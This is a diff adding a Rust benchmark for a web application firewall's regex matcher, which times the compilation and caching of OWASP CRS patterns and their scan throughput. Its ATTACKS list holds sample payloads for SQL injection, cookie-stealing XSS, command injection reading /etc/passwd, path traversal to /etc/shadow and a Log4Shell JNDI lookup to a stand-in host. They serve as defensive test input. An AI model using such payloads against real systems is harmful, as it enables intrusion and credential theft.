@@ -1,0 +1,154 @@
+//! Micro-benchmark of the matcher on the real CRS `@rx` sets (v3.3.4 and v4.28.0): PCRE2
+//! compile, Hyperscan classification + compile, database size, cache store/load (the restart
+//! path of issue #4), and scan throughput on typical short request values and on attack values.
+//! Plain `fn main` timing loops (`harness = false`); run with `cargo bench --bench matcher`.
+
+use std::hint::black_box;
+use std::time::{Duration, Instant};
+
+use spoa_waf::matcher::{PatternSet, PatternSetBuilder};
+
+#[path = "../tests/it/crs_rx.rs"]
+mod crs_rx;
+
+fn patterns(version: &str) -> Vec<String> {
+    let dir = crs_rx::crs_root().join(version).join("rules");
+    let mut seen = std::collections::BTreeSet::new();
+    let mut out = Vec::new();
+    for f in crs_rx::conf_files(&dir) {
+        let text = std::fs::read_to_string(&f).unwrap_or_default();
+        for p in crs_rx::rx_patterns(&text) {
+            if seen.insert(p.clone()) {
+                out.push(p);
+            }
+        }
+    }
+    out
+}
+
+fn builder(pats: &[String]) -> PatternSetBuilder {
+    let mut b = PatternSetBuilder::new();
+    for p in pats {
+        if let Err(e) = b.add_regex(p) {
+            eprintln!("skipped: {e}");
+        }
+    }
+    b
+}
+
+const TYPICAL: &[&[u8]] = &[
+    b"1",
+    b"en-US,en;q=0.9",
+    b"gzip, deflate, br",
+    b"keep-alive",
+    b"/index.php",
+    b"application/x-www-form-urlencoded",
+    b"session=4f2a9c1e77b04d3a",
+    b"john.doe@example.com",
+    b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    b"The quick brown fox jumps over the lazy dog",
+    b"2024-05-01",
+];
+
+const ATTACKS: &[&[u8]] = &[
+    b"1' or '1'='1",
+    b"<script>alert(document.cookie)</script>",
+    b"; cat /etc/passwd",
+    b"../../../../etc/shadow",
+    b"${jndi:ldap://x.example/a}",
+    b"1 union all select username,password from users--",
+];
+
+/// Scans `values` round-robin for about `budget`; returns (scans/s, ns/scan, matches/scan).
+fn throughput(set: &PatternSet, values: &[&[u8]], budget: Duration) -> (f64, f64, f64) {
+    let mut s = set.new_scratch();
+    let mut out = Vec::new();
+    let mut n = 0u64;
+    let mut hits = 0u64;
+    let start = Instant::now();
+    while start.elapsed() < budget {
+        for v in values {
+            set.scan(&mut s, black_box(v), &mut out);
+            hits += out.len() as u64;
+        }
+        n += values.len() as u64;
+    }
+    let secs = start.elapsed().as_secs_f64();
+    (
+        n as f64 / secs,
+        secs * 1e9 / n as f64,
+        hits as f64 / n as f64,
+    )
+}
+
+fn main() {
+    let cache = std::env::temp_dir().join(format!("spoa-waf-matcher-bench-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&cache);
+    println!("libhs {}", hyperscan_version());
+    for version in ["v3.3.4", "v4.28.0"] {
+        let pats = patterns(version);
+        let bytes: usize = pats.iter().map(String::len).sum();
+        let t = Instant::now();
+        let b = builder(&pats);
+        let pcre_compile = t.elapsed();
+        let set = b.build().expect("build");
+        let st = set.stats().clone();
+        println!(
+            "\n## CRS {version}: {} unique @rx patterns, {bytes} bytes of pattern text",
+            pats.len()
+        );
+        println!("PCRE2 compile+JIT of all patterns: {pcre_compile:?}");
+        println!(
+            "Hyperscan: {} expressions ({} prefilter), {} PCRE2-only; classify {:?} + compile {:?} = build {:?}; DB {} bytes ({:.1} MiB)",
+            st.hs_expressions,
+            st.prefiltered,
+            st.pcre_only,
+            st.classify_time,
+            st.hs_compile_time,
+            st.build_time,
+            st.db_bytes,
+            st.db_bytes as f64 / (1 << 20) as f64
+        );
+        let stored = builder(&pats).build_cached(Some(&cache)).expect("store");
+        println!(
+            "cold build_cached (compile + store): {:?} ({:?})",
+            stored.stats().build_time,
+            stored.stats().cache
+        );
+        let t = Instant::now();
+        let loaded = builder(&pats).build_cached(Some(&cache)).expect("load");
+        let restart = t.elapsed();
+        println!(
+            "warm restart (PCRE2 compile + cache load): {restart:?}, of which cache load {:?} ({:?})",
+            loaded.stats().build_time,
+            loaded.stats().cache
+        );
+        let budget = Duration::from_millis(1500);
+        for (name, vals) in [("typical", TYPICAL), ("attack", ATTACKS)] {
+            let avg = vals.iter().map(|v| v.len()).sum::<usize>() / vals.len();
+            let (rate, ns, m) = throughput(&loaded, vals, budget);
+            println!("scan {name} values (avg {avg} B): {rate:.0} scans/s, {ns:.0} ns/scan, {m:.2} matches/scan");
+        }
+        let nl: Vec<Vec<u8>> = TYPICAL.iter().map(|v| [v, &b"\n"[..]].concat()).collect();
+        let nl_refs: Vec<&[u8]> = nl.iter().map(Vec::as_slice).collect();
+        let (rate, ns, m) = throughput(&loaded, &nl_refs, budget);
+        println!("scan typical values + trailing newline (all regex hits confirmed): {rate:.0} scans/s, {ns:.0} ns/scan, {m:.2} matches/scan");
+        let kb: Vec<u8> = b"lorem ipsum dolor sit amet, "
+            .iter()
+            .cycle()
+            .take(1024)
+            .copied()
+            .collect();
+        let (rate, ns, _) = throughput(&loaded, &[&kb], budget);
+        println!(
+            "scan 1 KiB text: {rate:.0} scans/s, {ns:.0} ns/scan ({:.0} MB/s)",
+            1024.0 * rate / 1e6
+        );
+    }
+    let _ = std::fs::remove_dir_all(&cache);
+}
+
+fn hyperscan_version() -> String {
+    hyperscan::version_str().to_string_lossy().into_owned()
+}
